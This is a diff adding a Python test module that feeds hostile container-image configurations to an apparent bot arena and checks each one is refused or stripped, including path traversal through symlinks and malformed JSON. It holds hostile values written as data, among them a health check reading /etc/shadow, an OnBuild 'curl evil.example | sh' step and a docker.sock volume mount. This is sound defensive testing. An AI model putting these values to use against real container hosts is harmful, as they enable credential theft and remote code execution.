@@ -1,0 +1,149 @@
+"""Attacks by an image's configuration."""
+
+import json
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+from arena.images.image import BotImage
+from tests.images.archives import Draft
+from tests.images.hostile.attack import Attack, in_config, layered, oci_archive
+from tests.images.tars import folder, symlink, tar
+
+_KEPT = {"Entrypoint", "Cmd", "Env", "WorkingDir"}
+
+
+def _only_four_fields(image: BotImage, _layers: Path) -> None:
+    config = json.loads(image.config())
+    assert set(config) == {"architecture", "config", "created", "history", "os", "rootfs"}
+    assert set(config["config"]) == _KEPT
+
+
+def _no_variables_of_ours(image: BotImage, _layers: Path) -> None:
+    assert image.command.env == ("PATH=/bin",)
+
+
+def _bytes(name: str, change: Callable[[bytes], bytes], refused: str) -> Attack:
+    """Return an attack by a configuration that is no proper JSON."""
+
+    class Forged(Draft):
+        def config_bytes(self) -> bytes:
+            return change(super().config_bytes())
+
+    return Attack(name=name, build=oci_archive(Forged()), control=oci_archive(Draft()), refused=refused)
+
+
+def _dropped(name: str, **config: Any) -> Attack:  # noqa: ANN401 - JSON
+    return in_config(name, harmless=_only_four_fields, **config)
+
+
+CONFIGS = (
+    _dropped("root as the user", User="0:0"),
+    _dropped("volumes over the system", Volumes={"/etc": {}, "/var/run/docker.sock": {}}),
+    _dropped(
+        "a health check that runs", Healthcheck={"Test": ["CMD-SHELL", "cat /etc/shadow"], "Interval": 1}
+    ),
+    _dropped("the arena's own labels", Labels={"kaiten.match": "1", "kaiten.install": "forged"}),
+    _dropped("steps for those who build on it", OnBuild=["RUN curl evil.example | sh"]),
+    _dropped(
+        "a signal that can't be heard",
+        StopSignal="SIGWINCH",
+        ExposedPorts={"22/tcp": {}},
+        Shell=["/bin/evil"],
+    ),
+    in_config(
+        "the arena's own variables",
+        Env=["ARENA_REFEREE=unix:/tmp/mine", "HOME=/root", "PATH=/bin"],
+        harmless=_no_variables_of_ours,
+    ),
+    in_config(
+        "an entry point that is text", Entrypoint="sh -c x", refused="Expected `array | null`, got `str`"
+    ),
+    in_config("an entry point that is a number", Entrypoint=7, refused="Expected `array | null`, got `int`"),
+    in_config("an entry point in an entry point", Entrypoint=[["sh"]], refused="Expected `str`, got `array`"),
+    in_config(
+        "variables that are an object", Env={"A": "b"}, refused="Expected `array | null`, got `object`"
+    ),
+    in_config(
+        "nothing to start", Entrypoint=None, refused="starts nothing: give its Dockerfile an ENTRYPOINT"
+    ),
+    in_config("a first word that is empty", Entrypoint=[""], refused="starts nothing"),
+    in_config("a NUL in a word", Entrypoint=["sh", "-c\0x"], refused="NUL"),
+    in_config("half a character", Cmd=["\ud800"], refused="not Unicode|not what it should be"),
+    in_config(
+        "a million variables", Env=[f"V{number}=x" for number in range(1_000_000)], refused="at most 1048576"
+    ),
+    in_config(
+        "a thousand variables", Env=[f"V{number}=x" for number in range(1_000)], refused="1000 variables"
+    ),
+    in_config("a variable of a megabyte", Env=["A=" + "x" * 900_000], refused="at most 32768"),
+    in_config("a variable without a name", Env=["=x"], refused="called"),
+    in_config("a variable without a value", Env=["LD_PRELOAD"], refused="called"),
+    in_config("a process's folder to start in", WorkingDir="/proc/self/fd/8", refused="is the system's"),
+    in_config("a device's folder to start in", WorkingDir="//dev/./shm/", refused="is the system's"),
+    in_config("a folder to start in by a detour", WorkingDir="/bot/../proc/self", refused="not absolute"),
+    in_config("a folder to start in from nowhere", WorkingDir="proc/self", refused="not absolute"),
+    in_config("a file to start in", WorkingDir="/bot/bot.py", refused="not a folder"),
+    in_config("a folder to start in with a long name", WorkingDir="/" + "a" * 256, refused="too long"),
+    in_config("a folder to start in with a long path", WorkingDir="/" + "a/" * 2_000, refused="too long"),
+    in_config("a folder to start in beside the socket", WorkingDir="/run/arena/x", refused="mounts"),
+    in_config("a folder to start in beside the init", WorkingDir="/run/arena-init/x", refused="mounts"),
+    in_config(
+        "a folder to start in for accounts", WorkingDir="/etc/group/x", refused="not a folder|of the system"
+    ),
+    in_config("a folder to start in that is never seen", WorkingDir="/tmp/x", refused="arena mounts"),  # noqa: S108 - the image's
+    Attack(
+        name="a folder to start in that is hidden behind a link",
+        build=oci_archive(
+            Draft(layers=layered(tar(symlink(b"w", b"/tmp/x"))).layers, config={"WorkingDir": "/w"})
+        ),
+        control=oci_archive(Draft(config={"WorkingDir": "/tmp"})),  # noqa: S108 - the image's
+        refused="what the arena mounts",
+    ),
+    Attack(
+        name="a folder to start in that is a link",
+        build=oci_archive(
+            Draft(layers=layered(tar(symlink(b"w", b"/proc/self/fd/8"))).layers, config={"WorkingDir": "/w"})
+        ),
+        control=oci_archive(Draft(layers=layered(tar(folder(b"w"))).layers, config={"WorkingDir": "/w"})),
+        refused="leads to '/proc'",
+    ),
+    Attack(
+        name="a folder to start in through links in a row",
+        build=oci_archive(
+            Draft(
+                layers=layered(tar(symlink(b"a", b"bot/b"), symlink(b"bot/b", b"../../../sys"))).layers,
+                config={"WorkingDir": "/a/kernel"},
+            )
+        ),
+        control=oci_archive(
+            Draft(
+                layers=layered(tar(symlink(b"a", b"bot/b"), symlink(b"bot/b", b"../../../usr"))).layers,
+                config={"WorkingDir": "/a/kernel"},
+            )
+        ),
+        refused="leads to '/sys'",
+    ),
+    Attack(
+        name="a folder to start in that goes in circles",
+        build=oci_archive(
+            Draft(
+                layers=layered(tar(symlink(b"a", b"b"), symlink(b"b", b"a"))).layers,
+                config={"WorkingDir": "/a"},
+            )
+        ),
+        control=oci_archive(Draft(layers=layered(tar(symlink(b"a", b"b"), symlink(b"b", b"c"))).layers)),
+        refused="more than 40 links",
+    ),
+    _bytes("a configuration that is no UTF-8", lambda text: text.replace(b"/bot", b"/\xff\xfe"), "should be"),
+    _bytes("a configuration of brackets", lambda _: b"[" * 500_000, "nested too deeply|should be"),
+    _bytes(
+        "a configuration that is a list", lambda text: b"[" + text + b"]", "Expected `object`, got `array`"
+    ),
+    _bytes("a configuration of 50 MB", lambda text: text + b" " * 50_000_000, "at most 1048576"),
+    _bytes(
+        "a platform that is a number",
+        lambda text: text.replace(b'"linux"', b"7"),
+        "Expected `str`, got `int`",
+    ),
+)
